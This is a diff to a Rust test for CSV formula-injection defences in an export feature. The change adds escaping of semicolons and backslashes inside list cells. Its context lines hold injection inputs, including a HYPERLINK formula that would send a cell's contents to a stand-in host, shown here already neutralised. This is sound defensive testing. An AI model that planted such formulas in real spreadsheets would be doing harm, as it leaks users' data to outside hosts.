@@ -2138,7 +2138,12 @@ fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_the
     w.owner_name = " \u{feff}=1+1".into();
     assert!(store.create(&w).is_err());
     w.owner_name = " =1+1".into();
-    w.buyers = ["=1+1".to_string(), "Coopé; Café".to_string()].into();
+    w.buyers = [
+        "=1+1".to_string(),
+        "Coopé; Café".to_string(),
+        "Export \\ Nord".to_string(),
+    ]
+    .into();
     w.location.point = Some(GeoPoint {
         latitude: 6.8,
         longitude: -5.25,
@@ -2180,8 +2185,12 @@ fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_the
         "'=HYPERLINK(\"http://x.example/?\"&A1)"
     );
     assert_eq!(cell("workplaces.csv", "owner_contact"), "'+225 07 00 00 00");
-    // A list is one cell, its items joined, made inert as a whole.
-    assert_eq!(cell("workplaces.csv", "buyers"), "'=1+1;Coopé; Café");
+    // A list is one cell, its items joined, made inert as a whole; an item's own `;` and `\`
+    // escaped, so that the cell splits back into its items.
+    assert_eq!(
+        cell("workplaces.csv", "buyers"),
+        "'=1+1;Coopé\\; Café;Export \\\\ Nord"
+    );
     // Blanks before the sign do not hide it.
     assert_eq!(cell("workplaces.csv", "owner_name"), "' =1+1");
     // A number is no formula: a negative longitude stays a number.
@@ -2203,7 +2212,11 @@ fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_the
     );
     // Lists stay lists, their items as written (one may hold a `;`).
     assert!(
-        tables[0].rows[0].contains(&serde_json::json!(["=1+1", "Coopé; Café"])),
+        tables[0].rows[0].contains(&serde_json::json!([
+            "=1+1",
+            "Coopé; Café",
+            "Export \\ Nord"
+        ])),
         "{:?}",
         tables[0].rows[0]
     );
